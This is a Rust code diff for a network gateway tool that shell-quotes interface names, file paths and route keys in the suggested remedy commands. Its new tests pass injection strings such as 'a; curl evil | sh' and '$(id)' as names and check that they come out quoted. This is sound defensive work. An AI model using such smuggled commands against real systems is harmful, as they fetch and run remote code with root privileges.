@@ -5,7 +5,7 @@ use std::collections::BTreeSet;
 use std::fmt;
 use std::time::Duration;
 
-use crate::addr::InterfaceName;
+use crate::addr::{InterfaceName, shell_word};
 use crate::gateway::{Key, Waiting};
 use crate::host::{KernelError, Kind, Object};
 
@@ -123,32 +123,35 @@ impl Problem {
         }
     }
 
-    /// The command that cures it, or shows who can; words in capitals are to be filled in.
+    /// The command that cures it, or shows who can, as a shell takes it; words in capitals are to be filled in.
     #[must_use]
     pub fn cure(&self) -> String {
+        let name = |name: &InterfaceName| shell_word(name.as_str()).into_owned();
         match self {
             Self::Unseen(_) => "journalctl -u vgwd -p err".to_owned(),
             // The doctor names the device, and the command.
             Self::Refused(error) if error.is_of_device() => "vgw doctor".to_owned(),
             Self::Refused(_) => "vgw host diff".to_owned(),
-            Self::PortFailed { port, .. } => format!("ip -details link show dev {port}"),
-            Self::PortAbsent { port, .. } => format!("vgw port delete {port}"),
-            Self::PortLost(port) => format!("ip link set dev {port} up"),
+            Self::PortFailed { port, .. } => format!("ip -details link show dev {}", name(port)),
+            Self::PortAbsent { port, .. } => format!("vgw port delete {}", name(port)),
+            Self::PortLost(port) => format!("ip link set dev {} up", name(port)),
             Self::TableNames(_) => "ls -l /etc/iproute2/rt_tables.d".to_owned(),
-            Self::LeaseBad(BadLease { file, .. }) => format!("rm {file}"),
+            Self::LeaseBad(BadLease { file, .. }) => format!("rm {}", shell_word(file)),
             Self::LeaseMissing(Waiting { lease, .. }) => {
-                format!("vgw uplink lease {} --address ADDRESS/LENGTH --via ROUTER", lease.device)
+                format!("vgw uplink lease {} --address ADDRESS/LENGTH --via ROUTER", name(&lease.device))
             }
-            Self::LeaseTaken(Waiting { uplink, .. }) => format!("vgw uplink delete {uplink}"),
+            Self::LeaseTaken(Waiting { uplink, .. }) => {
+                format!("vgw uplink delete {}", shell_word(&uplink.to_string()))
+            }
             Self::FabricWaiting(_) => "vgw fabric take DEVICE --dry-run".to_owned(),
             Self::FabricStuck(_) => "vgw fabric give-back".to_owned(),
             Self::TrialStuck(_) => "vgw rollback".to_owned(),
             Self::FabricJournal(_) | Self::StateUnsaved(_) => "journalctl -u vgwd -p err".to_owned(),
-            Self::StateAside(PutAside { file, .. }) => format!("rm {file}"),
+            Self::StateAside(PutAside { file, .. }) => format!("rm {}", shell_word(file)),
             Self::StateUnfit { key: Key::Route(instance, prefix), .. } => {
-                format!("vgw route delete --instance {instance} {prefix}")
+                format!("vgw route delete --instance {} {prefix}", shell_word(instance.as_str()))
             }
-            Self::StateUnfit { key, .. } => format!("vgw {} delete {key}", key.kind()),
+            Self::StateUnfit { key, .. } => format!("vgw {} delete {}", key.kind(), shell_word(&key.to_string())),
             Self::Dispute { object, .. } => match object.kind() {
                 Kind::Link => "ip monitor link".to_owned(),
                 Kind::Address => "ip monitor address".to_owned(),
@@ -288,6 +291,11 @@ mod tests {
         let key = Key::Route("a:b".parse().unwrap(), "10.0.0.0/8".parse().unwrap());
         let route = Problem::StateUnfit { key, reason: "no".into() };
         assert_eq!(route.cure(), "vgw route delete --instance a:b 10.0.0.0/8");
+        // Whoever may call chooses names, and root types what is told.
+        let key = Key::Route("a; curl evil | sh".parse().unwrap(), "10.0.0.0/8".parse().unwrap());
+        let route = Problem::StateUnfit { key, reason: "no".into() };
+        assert_eq!(route.cure(), "vgw route delete --instance 'a; curl evil | sh' 10.0.0.0/8");
+        assert_eq!(Problem::PortLost("$(id)".parse().unwrap()).cure(), "ip link set dev '$(id)' up");
         let dispute = |rest| {
             let object = Object::Link("vgw1".parse().unwrap());
             Problem::Dispute { object, repairs: 5, rest }.to_string()
